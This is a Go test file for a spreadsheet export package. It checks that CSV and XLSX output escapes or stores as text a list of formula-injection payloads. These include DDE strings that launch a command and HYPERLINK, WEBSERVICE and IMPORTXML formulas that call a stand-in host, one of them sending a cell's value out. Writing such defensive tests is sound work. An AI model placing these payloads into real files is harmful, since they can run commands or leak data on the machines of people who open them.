package export

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"
)

// payloads are texts by which people have made spreadsheets run something.
var payloads = strings.Split(strings.TrimSuffix(`=1+1
=SUM(A1:A9)
=cmd|' /C calc'!A0
=HYPERLINK("http://x.test?"&A1,"bấm")
=WEBSERVICE("http://x.test")
=IMPORTXML("http://x.test","//a")
=DDE("cmd";"/C calc";"x")
=@SUM(1)
=-1
=+1
==1
="a"
='a'
+1+1
+cmd|' /C calc'!A0
+SUM(A1)
+84912345678
++1
-1+1
-cmd|' /C calc'!A0
-5
-0.5
-SUM(A1)
--1
@SUM(1+1)
@A1
@@
@cmd|' /C calc'!A0
＝1+1
＝SUM(A1)
＋1+1
－1+1
＠SUM(1)
 =1+1
   +1
 -1
 @A1
"=1+1"
"+1
"-1
"@A1
'=1+1
''=1
'+1
“=1+1”
‘=1’
 　=1+1
;=1+1
,=1+1
","=1+1
a";=1+1;"
%0A=1+1
|calc
=1,"2";3
=_x0041_
_x000D_=1
_x003D_1+1
=A1&"
=NOW()
=2^10`, "\n"), "\n")

// more need characters that a line of text has no room for.
var more = []string{"\t=1+1", "\r=1+1", "\n=1+1", "\t\t@A1", "\r\n=1", "dòng một\r\n=1+1", "a\tb", "\ufeff=1", "\u00a0=1", "\u200b=1", "<b>&amp;</b>", "Nguyễn Thị Hường", "Đặng Ánh Tuyết 🌾", "Đồng Ánh"}

// dangerous is written apart from the code under test: the first sign that is neither blank nor quote.
func dangerous(s string) bool {
	s = strings.TrimLeft(s, " \u00a0\u3000\u200b\ufeff\"'“‘")
	r, _ := utf8.DecodeRuneInString(s)
	return s != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠", r)
}

func textTable() *table {
	t := &table{name: "t"}
	t.add("/a", "a", asText)
	t.add("/b", "b", computed)
	t.add("/c", "c", asNumber)
	return t
}

func TestCSV_NoTextIsAFormula(t *testing.T) {
	all := append(append([]string{}, payloads...), more...)
	equal(t, "payloads", len(payloads), 60)
	var out bytes.Buffer
	c := newCSV(&out, textTable())
	for _, p := range all {
		ok(t, c.row([]string{p, p, p}))
	}
	ok(t, c.flush())
	text := strings.TrimPrefix(out.String(), bom)
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	ok(t, err)
	for i, p := range all {
		for k, got := range rows[i+1] {
			number := k > 0 && (p == "-5" || p == "-0.5" || p == "+84912345678")
			if back, marked := strings.CutPrefix(got, "'"); dangerous(p) && !number {
				equal(t, "marked "+p, marked, true)
				got = back
			}
			equal(t, "text", got, strings.ReplaceAll(p, "\r\n", "\n")) // the reader makes one of the two
		}
	}
}

func TestXLSX_TextsAreTexts(t *testing.T) {
	all := append(append([]string{}, payloads...), more...)
	b := &book{file: excelize.NewFile()}
	ok(t, b.styles())
	tab := textTable()
	sp, err := newSpool()
	ok(t, err)
	for _, p := range all {
		_, err := sp.Write(appendRow(nil, []string{p, p, p}))
		ok(t, err)
	}
	ok(t, b.sheet(0, tab, len(all), sp))
	var out bytes.Buffer
	ok(t, b.file.Write(&out))
	f, err := excelize.OpenReader(&out)
	ok(t, err)
	for i, p := range all {
		for k, col := range []string{"A", "B", "C"} {
			at, _ := excelize.JoinCellName(col, i+2)
			formula, err := f.GetCellFormula("t", at)
			ok(t, err)
			equal(t, "formula of "+p, formula, "")
			kind, err := f.GetCellType("t", at)
			ok(t, err)
			want := excelize.CellTypeInlineString
			if k > 0 && (p == "-5" || p == "-0.5") {
				want = excelize.CellTypeUnset // a number
			}
			equal(t, "type of "+p, kind, want)
			got, err := f.GetCellValue("t", at)
			ok(t, err)
			equal(t, "text", strings.ReplaceAll(got, "_x005F_", "_"), p) // excelize leaves the mark of ECMA-376 §22.9.2.19 in
		}
	}
}

func TestCell_Kinds(t *testing.T) {
	b := &book{date: 7}
	for _, c := range []struct {
		k    kind
		v    string
		want any
	}{
		{asText, "012345678901", "012345678901"}, {asText, "5", "5"}, {asText, "", nil},
		{asNumber, "5", int64(5)}, {asNumber, "-2.5", -2.5}, {asNumber, "0", int64(0)}, {asNumber, "khác", "khác"},
		{asNumber, "999999999999999", int64(999999999999999)}, {asNumber, "9999999999999999", "9999999999999999"},
		{asNumber, "99999999999999999999", "99999999999999999999"}, {asNumber, "0.1234567890123456789", "0.1234567890123456789"},
		{computed, "25.333333333333332", 25.333333333333332}, {computed, "05", "05"}, {computed, "0.5", 0.5}, {computed, "-7", int64(-7)},
		{computed, "1e5", "1e5"}, {computed, "NaN", "NaN"}, {computed, "2025-09-14", "2025-09-14"}, {computed, "+5", "+5"}, {computed, "-", "-"},
		{asDate, "2025-09-14", excelize.Cell{StyleID: 7, Value: 45914}}, {asDate, "1900-03-01", excelize.Cell{StyleID: 7, Value: 61}},
		{asDate, "1900-02-28", "1900-02-28"}, {asDate, "1899-01-01", "1899-01-01"}, {asDate, "2025-13-01", "2025-13-01"},
	} {
		equal(t, c.v, b.cell(c.k, c.v), c.want)
	}
}

func TestBook_NamesOfSheets(t *testing.T) {
	b := &book{}
	long := strings.Repeat("đ", 40)
	for i, want := range []string{"tv", "TV~2", "a_b", strings.Repeat("đ", 31), strings.Repeat("đ", 29) + "~2", "bang5"} {
		equal(t, "name", b.name([]string{"tv", "TV", "a/b", long, long, ""}[i], i), want)
	}
}
